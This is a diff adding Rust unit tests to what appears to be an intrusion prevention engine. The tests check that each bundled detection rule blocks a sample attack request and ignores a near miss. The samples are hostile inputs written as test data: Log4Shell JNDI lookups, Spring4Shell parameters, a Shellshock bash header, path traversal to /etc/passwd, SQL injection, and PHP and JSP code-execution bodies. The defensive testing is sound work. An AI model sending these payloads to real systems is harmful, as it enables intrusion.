@@ -111,3 +111,61 @@ fn block_page_names_the_rule() {
     assert!(p.starts_with("HTTP/1.1 403 Forbidden\r\n"));
     assert!(p.contains("sid 7") && p.contains("a &lt;b&gt;"));
 }
+
+#[test]
+fn uris_are_percent_decoded_once() {
+    assert_eq!(percent_decode(b"/a%20b%7Bc%zz%2"), b"/a b{c%zz%2");
+    assert_eq!(percent_decode(b"%252e"), b"%2e");
+    let s = set(LOG4J, IpsMode::Block, Level::Strict);
+    let mut scratch = s.scratch().unwrap();
+    let mut f = FlowIps::new(s, 443);
+    let v = f.inspect(Direction::ToServer, b"GET /?q=$%7Bjndi:ldap://x%7D HTTP/1.1\r\nHost: x\r\n\r\n", &mut scratch);
+    assert!(matches!(v, Verdict::Block(_)), "an encoded Log4Shell URI is caught: {v:?}");
+}
+
+fn request(method: &str, uri: &str, ua: &str, body: &str) -> Vec<u8> {
+    format!("{method} {uri} HTTP/1.1\r\nHost: app.example\r\nUser-Agent: {ua}\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
+}
+
+#[test]
+fn every_bundled_rule_fires_on_its_sample_and_not_on_a_near_miss() {
+    let (rules, errors) = parse_rules(crate::control::loader::DEFAULT_RULES);
+    assert!(errors.is_empty(), "{errors:?}");
+    let (set, refused) = Ruleset::compile(rules, IpsMode::Monitor, Level::Strict, 1 << 20).unwrap();
+    assert!(refused.is_empty(), "{refused:?}");
+    let set = Arc::new(set);
+    let mut scratch = set.scratch().unwrap();
+    let ua = "Mozilla/5.0";
+    let cases: Vec<(u32, Vec<u8>, Vec<u8>)> = vec![
+        (9000001, request("GET", "/?x=${jndi:ldap://a/b}", ua, ""), request("GET", "/?x=jndi", ua, "")),
+        (9000002, request("GET", "/", "${jndi:ldap://a/b}", ""), request("GET", "/", ua, "")),
+        (9000003, request("POST", "/api", ua, "{\"q\":\"${jndi:rmi://a/b}\"}"), request("POST", "/api", ua, "{\"q\":\"hello\"}")),
+        (9000004, request("POST", "/", ua, "class.module.classLoader.resources.context=x"), request("POST", "/", ua, "class=module")),
+        (9000005, request("GET", "/?class.module.classLoader.URLs[0]=0", ua, ""), request("GET", "/?class=1", ua, "")),
+        (9000006, request("GET", "/cgi-bin/x", "() { :; }; /bin/bash -c id", ""), request("GET", "/cgi-bin/x", "curl/8.0", "")),
+        (9000010, request("GET", "/a/../../etc/x", ua, ""), request("GET", "/a/b/../c", ua, "")),
+        (9000011, request("GET", "/%252e%252e%252fetc", ua, ""), request("GET", "/%2e/etc", ua, "")),
+        (9000012, request("GET", "/view?f=/etc/passwd", ua, ""), request("GET", "/view?f=/etc/hosts", ua, "")),
+        (9000013, request("GET", "/p?id=1%20UNION%20ALL%20SELECT%201", ua, ""), request("GET", "/p?id=union", ua, "")),
+        (9000014, request("GET", "/p?u=%27%20or%201%3d1", ua, ""), request("GET", "/p?u=oregon", ua, "")),
+        (9000015, request("POST", "/up.php", ua, "<?php eval(base64_decode('aWQ='));"), request("POST", "/up.php", ua, "evaluate(now)")),
+        (9000016, request("POST", "/x.jsp", ua, "Runtime.getRuntime().exec(\"id\")"), request("POST", "/x.jsp", ua, "Runtime stats")),
+        (9000020, request("GET", "/", "sqlmap/1.7.2#stable", ""), request("GET", "/", ua, "")),
+        (9000021, request("GET", "/", "Mozilla/5.00 (Nikto/2.1.6)", ""), request("GET", "/", ua, "")),
+        (9000022, request("GET", "/", "Nuclei - Open-source project", ""), request("GET", "/", ua, "")),
+        (9000023, request("GET", "/pixel.gif", ua, ""), request("GET", "/images/pixel.gif", ua, "")),
+    ];
+    let mut covered: Vec<u32> = cases.iter().map(|c| c.0).collect();
+    covered.sort_unstable();
+    let mut all: Vec<u32> = set.rules.iter().map(|r| r.sid).collect();
+    all.sort_unstable();
+    assert_eq!(covered, all, "every bundled rule has a sample");
+    for (sid, positive, negative) in cases {
+        let mut f = FlowIps::new(set.clone(), 443);
+        f.inspect(Direction::ToServer, &positive, &mut scratch);
+        assert!(f.hits.iter().any(|h| h.sid == sid), "sid {sid} missed {}", String::from_utf8_lossy(&positive));
+        let mut f = FlowIps::new(set.clone(), 443);
+        f.inspect(Direction::ToServer, &negative, &mut scratch);
+        assert!(!f.hits.iter().any(|h| h.sid == sid), "sid {sid} fired on {}", String::from_utf8_lossy(&negative));
+    }
+}
